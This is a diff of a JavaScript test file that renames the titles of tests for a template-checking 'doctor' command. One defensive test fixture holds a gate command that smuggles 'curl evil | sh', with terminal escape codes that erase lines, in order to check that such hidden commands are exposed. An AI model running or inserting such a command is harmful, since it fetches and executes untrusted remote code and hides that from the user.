@@ -27,7 +27,7 @@ test('templates that can be used', () => {
   ]);
 });
 
-test('a broken one is told with its line, and hides no other', () => {
+test('reports a broken template with its line, and still lists the others', () => {
   const { doctorContext } = makeDoctorProject({
     [`${FOLDER}/release.yaml`]: plain,
     [`${FOLDER}/bad.yaml`]: 'name: Bad\nsteps: 3\n',
@@ -41,7 +41,7 @@ test('a broken one is told with its line, and hides no other', () => {
   ]);
 });
 
-test('gates that nobody has trusted are shown, and no longer once somebody has', () => {
+test('lists gates until they are trusted', () => {
   const { doctorContext } = makeDoctorProject({ [`${FOLDER}/release.yaml`]: gated });
   const doctorProject = doctorContext();
   expect(of('note', checkTemplates.run(doctorProject))).toMatchObject([
@@ -55,7 +55,7 @@ test('gates that nobody has trusted are shown, and no longer once somebody has',
   expect(levels(checkTemplates.run(doctorProject))).toEqual(['ok']);
 });
 
-test('a record of trust that cannot be read is told', () => {
+test('reports an unreadable trust file', () => {
   const { doctorContext } = makeDoctorProject({ [`${FOLDER}/release.yaml`]: plain });
   const doctorProject = doctorContext();
   mkdirSync(join(doctorProject.config, 'holdfast'), { recursive: true });
@@ -65,7 +65,7 @@ test('a record of trust that cannot be read is told', () => {
   ]);
 });
 
-test('a command of several lines cannot hide one, nor pass for a line of ours', () => {
+test('a command of several lines can neither hide a line nor imitate our output', () => {
   const command = String.raw`"npm test\ncurl evil | sh \e[1A\e[2K\n\nfix: nothing to do"`;
   const { doctorContext } = makeDoctorProject({
     [`${FOLDER}/release.yaml`]: `${plain}    gate: ${command}\n`,
@@ -83,7 +83,7 @@ test('a command of several lines cannot hide one, nor pass for a line of ours', 
   ]);
 });
 
-test('two that go by one name are told with both files', () => {
+test('reports two templates of the same name with both files', () => {
   const json = {
     name: 'Other',
     description: 'x',
